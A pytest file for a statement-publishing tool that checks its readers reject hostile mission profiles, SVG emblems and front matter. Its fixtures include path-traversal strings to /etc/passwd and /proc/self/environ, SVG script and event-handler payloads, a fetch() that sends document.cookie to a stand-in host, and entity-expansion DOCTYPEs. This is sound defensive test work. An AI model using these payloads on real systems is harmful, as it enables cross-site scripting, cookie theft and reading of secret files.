"""Readers against hostile inputs: mission profiles that try to embed files from outside
their folder, markup nested to exhaust the stack, front-matter values of the wrong type.

Translators are outside contractors, statements come from drafts, mission profiles are
not trusted, and CI builds with secrets in its environment and publishes the HTML. Every
problem here must be one located error (``FILE:LINE: message``), never a crash and never
a secret in a published page.
"""

from __future__ import annotations

import os
import pickle
import types
from pathlib import Path

import pytest

from publisher.errors import PublisherError, StatementError, TemplateError
from publisher.i18n.po import Catalog, Message
from publisher.i18n.translate import translate_statement
from publisher.model import Quote, Sup
from publisher.readers.markdown import (
    KNOWN, MAX_BLOCK_DEPTH, MAX_INLINE_DEPTH, parse_inline, read_statement,
)
from publisher.readers.emblem import MAX_EMBLEM_BYTES, read_emblem
from publisher.readers.mission import read_mission
from publisher.writers.html import data_uri

from .conftest import ROOT

FIXTURES = Path(__file__).parent / "fixtures" / "missions"
SECRET = "CI_DEPLOY_TOKEN=hunter2"
SVG = FIXTURES.joinpath("testland.svg").read_text(encoding="utf-8")
PNG = FIXTURES.joinpath("testland.png").read_bytes()


def one_line(err: PublisherError, path: Path, line: int) -> str:
    """The error as printed, checked to be one line at ``path:line`` without the secret."""
    text = str(err)
    assert err.path == str(path), text
    assert err.line == line, text
    assert "\n" not in text and "\r" not in text, text
    assert "hunter2" not in text
    return text


# ---------------------------------------------------------------- the emblem

@pytest.fixture
def missions(tmp_path: Path) -> Path:
    """``templates/missions`` with the test emblems, and a secret file beside the templates."""
    folder = tmp_path / "templates" / "missions"
    folder.mkdir(parents=True)
    (folder / "testland.svg").write_text(SVG, encoding="utf-8")
    (folder / "testland.png").write_bytes(PNG)
    (tmp_path / "templates" / "secret.svg").write_text(SECRET, encoding="utf-8")
    (tmp_path / "environ").write_text(SECRET, encoding="utf-8")
    return folder


def profile(folder: Path, emblem: str) -> Path:
    path = folder / "xx-hostile.yaml"
    path.write_text(f"# A profile someone sent in.\nname: [Delegation of Testland]\nemblem: {emblem}\n",
                    encoding="utf-8")
    return path


def refused(folder: Path, emblem: str, *words: str) -> str:
    path = profile(folder, emblem)
    with pytest.raises(TemplateError) as info:
        read_mission(path)
    text = one_line(info.value, path, 3)
    assert "emblem" in text
    for word in words:
        assert word in text, text
    return text


@pytest.mark.parametrize("emblem", ["/proc/self/environ", "/etc/passwd", "//etc/passwd"])
def test_emblem_absolute_path_is_refused(missions, emblem):
    refused(missions, emblem, "absolute path")


@pytest.mark.parametrize("emblem", ["../../../../etc/passwd", "../secret.svg",
                                    "./../../environ", "testland/../../secret.svg"])
def test_emblem_path_out_of_the_folder_is_refused(missions, emblem):
    refused(missions, emblem)


def test_emblem_symlink_out_of_the_folder_is_refused(missions):
    (missions / "emblem.svg").symlink_to(missions.parent / "secret.svg")
    refused(missions, "emblem.svg", "outside")
    (missions / "passwd.png").symlink_to("/etc/passwd")
    refused(missions, "passwd.png", "outside")
    os.symlink("loop.svg", missions / "loop.svg")
    refused(missions, "loop.svg")


def test_emblem_symlink_inside_the_folder_is_fine(missions):
    (missions / "art").mkdir()
    (missions / "art" / "crest.svg").write_text(SVG, encoding="utf-8")
    (missions / "crest.svg").symlink_to(missions / "art" / "crest.svg")
    mission = read_mission(profile(missions, "crest.svg"))
    assert mission.emblem == str((missions / "art" / "crest.svg").resolve())
    assert read_mission(profile(missions, "art/crest.svg")).emblem == mission.emblem


def test_emblem_that_is_not_an_image_is_refused(missions):
    (missions / "fake.png").write_text(f"<html>{SECRET}</html>", encoding="utf-8")
    refused(missions, "fake.png", "not a PNG")
    (missions / "short.png").write_bytes(PNG[:8])
    refused(missions, "short.png", "not a PNG")
    (missions / "page.svg").write_text(f"<html>{SECRET}</html>", encoding="utf-8")
    refused(missions, "page.svg", "root element")
    (missions / "text.svg").write_text(SECRET, encoding="utf-8")
    refused(missions, "text.svg", "not well-formed")
    (missions / "crest.gif").write_bytes(b"GIF89a" + b"\0" * 20)
    refused(missions, "crest.gif", "SVG or PNG")
    (missions / "folder.svg").mkdir()
    refused(missions, "folder.svg", "not a regular file")
    refused(missions, "missing.svg", "no such file")
    refused(missions, "xx-hostile.yaml", "SVG or PNG")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_emblem_that_is_a_pipe_is_refused_without_waiting(missions):
    os.mkfifo(missions / "pipe.svg")
    refused(missions, "pipe.svg", "not a regular file")


SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize("svg, word", [
    (SVG_OPEN + "<script>fetch('https://x/?'+document.cookie)</script></svg>", "<script>"),
    (SVG_OPEN + '<script xlink:href="https://x/a.js"/></svg>', "<script>"),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "event attribute"),
    (SVG_OPEN + '<circle r="4" ONCLICK="alert(1)"/></svg>', "event attribute"),
    (SVG_OPEN + '<a href="https://evil.example/"><circle r="4"/></a></svg>', "points outside"),
    (SVG_OPEN + '<image xlink:href="file:///etc/passwd"/></svg>', "points outside"),
    (SVG_OPEN + '<use href="other.svg#a"/></svg>', "points outside"),
    (SVG_OPEN + '<image href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>', "points outside"),
    (SVG_OPEN + '<a href="javascript:alert(1)"><circle r="4"/></a></svg>', "script URL"),
    (SVG_OPEN + '<set attributeName="xlink:href" to="https://x/"/></svg>', "animates"),
    (SVG_OPEN + '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'
     "</svg>", "foreignObject"),
    (SVG_OPEN + "<style>@import url(https://x/a.css);</style></svg>", "imports"),
    (SVG_OPEN + '<circle r="4" style="fill: url(https://x/#g)"/></svg>', "url()"),
    (SVG_OPEN + '<circle r="4" fill="url(//x/#g)"/></svg>', "url()"),
    (SVG_OPEN + '<circle r="4" style="fill: \\75 rl(https://x/#g)"/></svg>', "CSS escapes"),
    (SVG_OPEN + "<style>@\\69mport 'x.css';</style></svg>", "CSS escapes"),
    ('<?xml-stylesheet href="https://x/a.css"?>' + SVG_OPEN + "</svg>", "processing instruction"),
    ('<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
     + SVG_OPEN + "&b;</svg>", "DOCTYPE"),
    ('<!DOCTYPE svg SYSTEM "file:///proc/self/environ">' + SVG_OPEN + "</svg>", "DOCTYPE"),
    ('<svg><circle r="4"/></svg>', "root element"),
    ('<html:svg xmlns:html="http://www.w3.org/1999/xhtml"/>', "root element"),
    (SVG_OPEN + "<g>", "not well-formed"),
])
def test_emblem_svg_that_could_script_or_load_is_refused(missions, svg, word):
    (missions / "hostile.svg").write_text(svg, encoding="utf-8")
    refused(missions, "hostile.svg", word)


def test_emblem_svg_with_local_references_is_fine(missions):
    (missions / "crest.svg").write_text(
        SVG_OPEN + '<defs><linearGradient id="g"/><style>.a{fill:url(#g)}</style></defs>'
        '<circle id="c" r="4" style="fill:url(#g)"/><use xlink:href="#c"/>'
        '<image href="data:image/png;base64,AAAA"/><!-- drawn by hand --></svg>',
        encoding="utf-8")
    assert read_mission(profile(missions, "crest.svg")).emblem


def test_emblem_too_big_is_refused(missions):
    (missions / "big.png").write_bytes(PNG + b"\0" * MAX_EMBLEM_BYTES)
    refused(missions, "big.png", "larger than 1 MiB")
    (missions / "big.svg").write_text(SVG_OPEN + "<!--" + "x" * MAX_EMBLEM_BYTES + "--></svg>",
                                      encoding="utf-8")
    refused(missions, "big.svg", "larger than 1 MiB")


def test_emblem_png_twin_of_an_svg_is_checked_too(missions):
    """Word documents place the PNG beside an SVG emblem: it must pass the same checks."""
    (missions / "testland.png").unlink()
    (missions / "testland.png").symlink_to(missions.parent / "secret.svg")
    refused(missions, "testland.svg", "testland.png", "Word")
    (missions / "testland.png").unlink()
    (missions / "testland.png").write_text(SECRET, encoding="utf-8")
    refused(missions, "testland.svg", "testland.png", "not a PNG")
    (missions / "testland.png").unlink()
    assert read_mission(profile(missions, "testland.svg")).emblem  # no twin: HTML and PDF only


@pytest.mark.parametrize("emblem, line", [("[testland.svg]", 3), ("{a: b}", 3),
                                          ("\n  - testland.svg", 3)])
def test_emblem_must_be_one_value(missions, emblem, line):
    path = profile(missions, emblem)
    with pytest.raises(TemplateError) as info:
        read_mission(path)
    assert "'emblem' must be a single value" in one_line(info.value, path, line)


def test_real_emblems_still_work(missions):
    for name in ("testland.svg", "testland.png"):
        mission = read_mission(profile(missions, name))
        assert mission.emblem == str((missions / name).resolve())
        kind, data = read_emblem(mission.emblem)
        assert data == (missions / name).read_bytes()
        assert data_uri(Path(mission.emblem)).startswith(f"data:{kind};base64,")
    fixture = read_mission(FIXTURES / "xx-test-vienna.yaml")
    assert fixture.emblem == str((FIXTURES / "testland.svg").resolve())
    for path in sorted((ROOT / "templates" / "missions").glob("*.yaml")):
        read_mission(path)  # the project's own profiles


def test_emblem_swapped_after_reading_is_not_embedded(missions):
    """The writers read the checked path again: a file changed since is checked again."""
    mission = read_mission(profile(missions, "testland.svg"))
    emblem = Path(mission.emblem)
    emblem.unlink()
    emblem.symlink_to(missions.parent / "secret.svg")
    with pytest.raises(TemplateError) as info:
        data_uri(emblem)
    assert "hunter2" not in str(info.value)
    emblem.unlink()
    emblem.write_text(SVG_OPEN + "<script>alert(1)</script></svg>", encoding="utf-8")
    with pytest.raises(TemplateError, match="<script>"):
        data_uri(emblem)


def test_pdf_gets_the_checked_bytes_not_a_file_url(missions):
    from publisher.writers.pdf import _emblem_src

    mission = read_mission(profile(missions, "testland.svg"))
    src = _emblem_src(types.SimpleNamespace(mission=mission))  # type: ignore[arg-type]
    assert src is not None and src.startswith("data:image/svg+xml;base64,")
    assert _emblem_src(types.SimpleNamespace(mission=types.SimpleNamespace(emblem=None))) is None


# ---------------------------------------------------------------- deep nesting

def nested(depth: int, inner: str = "x") -> str:
    return "<sup>" * depth + inner + "</sup>" * depth


GOOD = "mission: ua-osce-vienna\ndate: 2024-11-06\ntitle: A statement\noriginal: en\n"


def statement(tmp_path: Path, body: str, front: str = GOOD) -> Path:
    path = tmp_path / "draft.md"
    path.write_text(f"---\n{front}---\nChairs,\n\n{body}\n", encoding="utf-8")
    return path


def test_inline_nesting_limit():
    text = parse_inline(nested(MAX_INLINE_DEPTH), "x.po", 4)
    node = text.content[0]
    for _ in range(MAX_INLINE_DEPTH - 1):
        assert isinstance(node, Sup)
        node = node.children[0]
    pickle.dumps(text)
    with pytest.raises(StatementError, match=r"nested more than 20 levels deep") as info:
        parse_inline(nested(MAX_INLINE_DEPTH + 1), "x.po", 4)
    assert str(info.value) == "x.po:4: inline markup is nested more than 20 levels deep"
    for source in (nested(300), "**" * 300 + "x" + "**" * 300, "*" * 99 + "x" + "*" * 99,
                   "<sub>" * 5000):
        with pytest.raises(StatementError):
            parse_inline(source, "x.po", 4)


def test_deeply_nested_translation_keeps_the_source_text(tmp_path):
    """300 nested <sup> in a msgstr: the usual "invalid translation" warning, the source
    text kept, and a tree the build can send to its worker processes."""
    source = read_statement(statement(tmp_path, "Thank you."))
    catalog = Catalog(entries=[
        Message("Chairs,", [nested(300, "Голово,")], lineno=7),
        Message("Thank you.", ["Дякую."], lineno=11),
    ])
    po_path = tmp_path / "uk.po"
    translated, cov = translate_statement(source, catalog, "uk", parse_inline, po_path)
    assert cov.invalid == 1 and cov.translated == 1
    assert translated.blocks[0] == source.blocks[0]
    assert translated.blocks[1].text.plain == "Дякую."
    warning = next(str(w) for w in cov.warnings if "levels deep" in w.message)
    assert warning.endswith(":7: warning: [invalid] uk: inline markup is nested more than 20 levels deep; "
                            "using the source text")
    pickle.dumps(translated)


def test_deeply_nested_statement_text_is_one_error(tmp_path):
    path = statement(tmp_path, nested(300))
    with pytest.raises(StatementError) as info:
        read_statement(path)
    assert "inline markup is nested more than 20 levels deep" in one_line(info.value, path, 9)
    path = statement(tmp_path, "x", GOOD + f"meeting: {nested(40)}\n")
    with pytest.raises(StatementError) as info:
        read_statement(path)
    one_line(info.value, path, 6)


@pytest.mark.parametrize("marker", ["> ", "- ", "1. "])
def test_block_nesting_limit(tmp_path, marker):
    def body(depth: int) -> str:
        if marker == "> ":
            return "> " * depth + "deepest"
        lines = [" " * (len(marker) * i) + marker + f"level {i}" for i in range(depth)]
        return "\n".join(lines) + "\n" + " " * (len(marker) * depth) + "deepest"

    kept = read_statement(statement(tmp_path, body(MAX_BLOCK_DEPTH)))
    pickle.dumps(kept)
    assert "deepest" in repr(kept.blocks[-1])  # kept whole, not cut short at some depth
    for depth in (MAX_BLOCK_DEPTH + 1, 300):
        path = statement(tmp_path, body(depth))
        with pytest.raises(StatementError) as info:
            read_statement(path)
        text = one_line(info.value, path, info.value.line or 0)
        assert "lists and quotes are nested more than 20 levels deep" in text
        assert 9 <= (info.value.line or 0) <= 9 + depth


def test_quotes_deeper_than_markdown_it_nests_are_not_dropped_silently(tmp_path):
    """markdown-it stops reading at its nesting limit: the text must never just vanish."""
    blocks = read_statement(statement(tmp_path, "> " * 20 + "deepest")).blocks
    quote = blocks[-1]
    for _ in range(19):
        assert isinstance(quote, Quote)
        quote = quote.children[0]
    assert isinstance(quote, Quote) and quote.children[0].text.plain == "deepest"


# ---------------------------------------------------------------- front-matter types

@pytest.mark.parametrize("key, value, message", [
    ("check_against_delivery", "[true]", "'check_against_delivery' must be a single value, not a list"),
    ("check_against_delivery", "{yes: no}", "must be a single value, not a mapping"),
    ("check_against_delivery", "1", "must be true or false"),
    ("check_against_delivery", "~", "must be true or false"),
    ("check_against_delivery", "'maybe'", "must be true or false"),
    ("mission", "[ua-osce-vienna]", "'mission' must be a single value, not a list"),
    ("mission", "{a: b}", "not a mapping"),
    ("mission", "~", "'mission' has no value"),
    ("mission", "Ua Osce", "must be a profile id"),
    ("mission", '"ua-osce-vienna\\n"', "must be a profile id"),
    ("date", "[2024-11-06]", "'date' must be a single value, not a list"),
    ("date", "{2024: 11}", "not a mapping"),
    ("date", "20241106", "is not a valid date"),
    ("date", "2024-11-06T10:00", "is not a valid date"),
    ("date", "6 November 2024", "is not a valid date"),
    ("date", "''", "'date' has no value"),
    ("title", "[A, B]", "'title' must be a single value, not a list"),
    ("title", "{a: b}", "not a mapping"),
    ("title", "null", "'title' has no value"),
    ("title", "<sup></sup>", "the title has no text"),
    ("original", "[en]", "'original' must be a single value, not a list"),
    ("original", "{en: uk}", "not a mapping"),
    ("original", "42", "unknown language code '42'"),
    ("original", "true", "unknown language code 'true'"),
    ("languages", "[[en]]", "'languages' must be a list of single values, not a list of lists"),
    ("languages", "[en, {uk: x}]", "not a list of mappings"),
    ("languages", "{en: uk}", "'languages' must be a value or a list of values, not a mapping"),
    ("languages", "[en, 42]", "unknown language code '42'"),
    ("languages", "[en, '']", "unknown language code ''"),
    ("symbol", "[PC.DEL/1/24]", "'symbol' must be a single value, not a list"),
    ("symbol", "{PC: 1}", "not a mapping"),
    ("symbol", '"PC.DEL/1/24\\nsecond line"', "'symbol' must be one line"),
    ("meeting", "[a, b]", "'meeting' must be a single value, not a list"),
    ("meeting", "{a: b}", "not a mapping"),
    ("meeting", '"\\e[31mred"', "character U+001B is not allowed"),
    ("agenda", "[a, b]", "'agenda' must be a single value, not a list"),
    ("agenda", "{a: b}", "not a mapping"),
    ("agenda", '"item \\0"', "character U+0000 is not allowed"),
    ("agenda", '"\\ud800"', "character U+D800 is not allowed"),
])
def test_statement_front_matter_types(tmp_path, key, value, message):
    fields = dict(line.split(": ", 1) for line in GOOD.splitlines())
    fields[key] = value
    front = "".join(f"{k}: {v}\n" for k, v in fields.items())
    line = 2 + list(fields).index(key)
    path = statement(tmp_path, "x", front)
    with pytest.raises(StatementError) as info:
        read_statement(path)
    assert message in one_line(info.value, path, line)


def test_every_statement_key_is_covered():
    covered = {case[0] for case in test_statement_front_matter_types.pytestmark[0].args[1]}
    assert covered == set(KNOWN)


@pytest.mark.parametrize("front, line, message", [
    ("[mission]: x\n", 6, "keys must be words"),
    ("? {a: b}\n: x\n", 6, "keys must be words"),
    ('"col\\nour": blue\n', 6, "unknown front-matter key 'col\\nour'"),
    ("meeting: " + "[" * 100 + "\n", 6, "nested more than 10 levels deep"),
    ("languages: &a [*a]\n", 6, "not a list of lists"),
    ("meeting: a\x7fb\n", 6, "not valid YAML: character U+007F is not allowed"),
    ("agenda: x\nmeeting: a\x85\x9fb\n", 7, "not valid YAML: character U+009F is not allowed"),
])
def test_front_matter_shape(tmp_path, front, line, message):
    path = statement(tmp_path, "x", GOOD + front)
    with pytest.raises(StatementError) as info:
        read_statement(path)
    assert message in one_line(info.value, path, line)


def test_empty_optional_fields_are_absent(tmp_path):
    meta = read_statement(statement(tmp_path, "x", GOOD + "meeting: ~\nagenda: ''\nsymbol:\n")).meta
    assert meta.meeting is None and meta.agenda is None and meta.symbol is None


@pytest.mark.parametrize("source", ["page&#12;break", '[OSCE](https://osce.org "x&#12;")',
                                    "bell\x07", "nul\x00", "\ufffe"])
def test_control_characters_in_a_translation_are_refused(source):
    """Also when written as a character reference: &#12; is a form feed no document holds."""
    with pytest.raises(StatementError, match=r"character U\+00(0C|07|00)|U\+FFFE") as info:
        parse_inline(source, "locales/uk/LC_MESSAGES/x.po", 3)
    assert info.value.line == 3


def test_control_characters_in_the_body_name_their_line(tmp_path):
    path = statement(tmp_path, "First line\nsecond \x0c line")
    with pytest.raises(StatementError) as info:
        read_statement(path)
    assert "character U+000C is not allowed" in one_line(info.value, path, 10)


@pytest.mark.parametrize("key, value, message", [
    ("name", "{a: b}", "'name' must be a value or a list of values, not a mapping"),
    ("name", "[[a]]", "'name' must be a list of single values, not a list of lists"),
    ("name", "['']", "'name' has an empty line"),
    ("name", "~", "'name' has an empty line"),
    ("name", "|\n  one\n  two", "must be one line"),
    ("address", "{a: b}", "'address' must be a value or a list of values, not a mapping"),
    ("address", "[x, [y]]", "not a list of lists"),
    ("languages", "{en: x}", "not a mapping"),
    ("languages", "[[en]]", "not a list of lists"),
    ("languages", "42", "unknown language code '42'"),
    ("emblem", "[a.svg]", "'emblem' must be a single value, not a list"),
    ("emblem", "{a: b}", "not a mapping"),
    ("regional_formats", "{en: GB}", "not a mapping"),
    ("regional_formats", "[[en-GB]]", "not a list of lists"),
    ("regional_formats", "en", "must be a language with a region"),
    ("regional_formats", '"en-GB\\0"', "character U+0000 is not allowed"),
    ("symbols", "[un]", "must be a single value, not a list"),
    ("symbols", "{un: x}", "must be a single value, not a mapping"),
    ("symbols", "unesco", "must be one of osce, un, iaea"),
    ("page_footer", "yes please", "must be true or false"),
    ("page_footer", "[true]", "must be a single value, not a list"),
])
def test_mission_profile_types(missions, key, value, message):
    fields = {"name": "[Delegation of Testland]", "address": "[Street 1]", "languages": "[en]",
              "emblem": "testland.svg", "regional_formats": "[en-GB]"}
    fields[key] = value
    path = missions / "xx-types.yaml"
    path.write_text("".join(f"{k}: {v}\n" for k, v in fields.items()), encoding="utf-8")
    with pytest.raises(TemplateError) as info:
        read_mission(path)
    assert message in one_line(info.value, path, 1 + list(fields).index(key))


def test_every_mission_key_is_covered():
    from publisher.readers.mission import KNOWN as MISSION_KEYS

    covered = {case[0] for case in test_mission_profile_types.pytestmark[0].args[1]}
    assert covered == set(MISSION_KEYS)
